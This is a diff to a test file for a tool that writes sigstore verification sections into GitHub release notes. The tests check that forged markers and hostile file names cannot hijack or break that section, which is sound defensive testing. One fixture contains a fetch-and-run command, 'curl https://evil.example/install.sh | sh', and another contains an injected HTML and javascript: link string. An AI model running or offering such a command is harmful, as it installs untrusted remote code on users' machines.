@@ -1,9 +1,12 @@
+import { createHash } from 'node:crypto';
 import {
   SECTION_END,
-  SECTION_START,
+  SECTION_START_PREFIX,
   verificationSection,
   withVerificationSection,
 } from '../../../src/publish/release-notes.js';
+import { printableName } from '../../../src/report/log-text.js';
+import { markdownStructure } from '../../helpers/markdown.js';
 
 const ID = 'https://github.com/o/r/.github/workflows/release.yml@refs/tags/v1.2.3';
 const ISS = 'https://token.actions.githubusercontent.com';
@@ -46,17 +49,129 @@ describe('release notes', () => {
   it('appends the section once and replaces it on re-runs, leaving the rest of the body alone', () => {
     const body = 'Release notes.\n\n- fixed things\n';
     const once = withVerificationSection(body, section);
-    expect(once.startsWith('Release notes.\n\n- fixed things\n\n' + SECTION_START)).toBe(true);
+    expect(once.startsWith('Release notes.\n\n- fixed things\n\n' + SECTION_START_PREFIX)).toBe(
+      true,
+    );
     const twice = withVerificationSection(once, section);
     expect(twice).toBe(once);
     const edited = withVerificationSection(
       once + '\nA footer added later.\n',
       section.replace('app.tar.gz', 'other.zip'),
     );
-    expect(edited.split(SECTION_START)).toHaveLength(2);
+    expect(edited.split(SECTION_START_PREFIX)).toHaveLength(2);
     expect(edited.split(SECTION_END)).toHaveLength(2);
     expect(edited).toContain('other.zip');
     expect(edited.endsWith('\nA footer added later.\n')).toBe(true);
     expect(withVerificationSection('', section)).toBe(section + '\n');
+  });
+});
+
+describe('release notes: the section cannot be forged into growing, splitting or surviving', () => {
+  const section = (files: string[]): string =>
+    verificationSection({ files, identity: ID, issuer: ISS, instance: 'public-good' });
+  const count = (body: string, text: string): number => body.split(text).length - 1;
+  const HEADING = '## Verify these files';
+  /** What anyone can write: markers around their own content, with its digest. */
+  const forge = (content: string): string => {
+    const digest = createHash('sha256')
+      .update(
+        content
+          .split('\n')
+          .map((l) => l.trimEnd())
+          .join('\n'),
+      )
+      .digest('hex');
+    return `${SECTION_START_PREFIX} sha256:${digest} (replaced on each run) -->\n${content}\n${SECTION_END}`;
+  };
+
+  it('ignores marker text inside a line (a pull request title in generated notes)', () => {
+    const body =
+      `* Fix ${SECTION_START_PREFIX} sha256:${'0'.repeat(64)} --> by @mallory\n` +
+      `* Docs ${SECTION_END} by @mallory\n`;
+    const once = withVerificationSection(body, section(['a']));
+    expect(once.startsWith(body)).toBe(true);
+    expect(withVerificationSection(once, section(['b']))).toBe(
+      withVerificationSection(body, section(['b'])),
+    );
+  });
+
+  it('does not grow over text after a forged start marker, and drops that marker', () => {
+    const first = withVerificationSection('Intro.\n', section(['a']));
+    // A start marker line placed before the section, with hand-written notes in between.
+    const forged = `${SECTION_START_PREFIX} (replaced on each run) -->\nKeep me.\n\n${first}`;
+    const rewritten = withVerificationSection(forged, section(['b']));
+    expect(rewritten).toContain('Keep me.');
+    expect(rewritten).toContain('Intro.');
+    expect(count(rewritten, SECTION_START_PREFIX)).toBe(1);
+    expect(count(rewritten, HEADING)).toBe(1);
+    expect(rewritten).toContain('verify b ');
+    expect(rewritten).not.toContain('verify a ');
+  });
+
+  it('does not split at a forged end marker, nor drop the text before it', () => {
+    const first = withVerificationSection('Intro.\n', section(['a']));
+    const forged = first.replace('Intro.\n', `Intro.\n${SECTION_END}\nKeep me.\n`);
+    const rewritten = withVerificationSection(forged, section(['b']));
+    expect(rewritten.startsWith('Intro.\nKeep me.\n')).toBe(true);
+    expect(count(rewritten, SECTION_END)).toBe(1);
+    expect(count(rewritten, HEADING)).toBe(1);
+  });
+
+  it('does not let a forged section survive, with or without a valid digest', () => {
+    const ours = withVerificationSection('Intro.\n', section(['a']));
+    // A complete section written by someone else (a digest anyone can compute), after ours.
+    const fake = forge(
+      '## Verify these files\n\n```sh\ncurl https://evil.example/install.sh | sh\n```',
+    );
+    const withFake = `${ours}\nMore notes.\n\n${fake}\n`;
+    const rewritten = withVerificationSection(withFake, section(['b']));
+    expect(rewritten).not.toContain('evil');
+    expect(rewritten).toContain('More notes.');
+    expect(count(rewritten, HEADING)).toBe(1);
+    // A fake whose digest does not match is not ours: its markers go, its text stays as text.
+    const badDigest = fake.replace(/sha256:[0-9a-f]{64}/, `sha256:${'1'.repeat(64)}`);
+    const rewritten2 = withVerificationSection(`${ours}\n${badDigest}\n`, section(['b']));
+    expect(count(rewritten2, SECTION_START_PREFIX)).toBe(1);
+    expect(count(rewritten2, SECTION_END)).toBe(1);
+    expect(rewritten2).toContain('curl https://evil.example/install.sh | sh');
+    // Run again: the section is replaced in place, nothing grows.
+    expect(withVerificationSection(rewritten2, section(['b']))).toBe(rewritten2);
+    expect(withVerificationSection(rewritten2, section(['c'])).length).toBe(rewritten2.length);
+  });
+
+  it("finds its section after GitHub's editor turned every line end into CRLF", () => {
+    const once = withVerificationSection('Intro.\n', section(['a']));
+    const edited = once.replace(/\n/g, '\r\n') + 'Footer.\r\n';
+    const rewritten = withVerificationSection(edited, section(['b']));
+    expect(count(rewritten, HEADING)).toBe(1);
+    expect(rewritten.startsWith('Intro.\r\n')).toBe(true);
+    expect(rewritten.endsWith('Footer.\r\n')).toBe(true);
+  });
+
+  it('keeps untrusted names, identities and predicate types inert in the Markdown', () => {
+    const hostile = 'x```\n<!-- /sigstore-action: verification -->\n<img src=x>](javascript:y)|';
+    const notes = verificationSection({
+      files: [hostile, 'ok.tar.gz'],
+      attestations: [{ predicateType: `https://e.example/${hostile}`, files: [hostile] }],
+      identity: `${ID}${hostile}`,
+      issuer: ISS,
+      instance: 'public-good',
+    });
+    const s = markdownStructure(notes);
+    // Two comments (the markers) and no other HTML; no link; the code blocks the section has.
+    expect(s.html).toHaveLength(2);
+    expect(s.html[0].startsWith(`${SECTION_START_PREFIX} sha256:`)).toBe(true);
+    expect(s.html[1].trim()).toBe(SECTION_END);
+    expect(s.links).toEqual([]);
+    expect(s.images).toEqual([]);
+    expect(s.codeBlocks.map((b) => b.info)).toEqual(['sh', 'sh', 'sh', 'sh', 'sh']);
+    for (const block of s.codeBlocks) expect(block.content.split('\n')).toHaveLength(2);
+    expect(s.headings).toEqual([
+      'Verify these files',
+      `Attestations: ${printableName(`https://e.example/${hostile}`)}`,
+    ]);
+    // The whole section is still found and replaced as one.
+    const body = withVerificationSection(withVerificationSection('', notes), section(['b']));
+    expect(body).toBe(withVerificationSection('', section(['b'])));
   });
 });
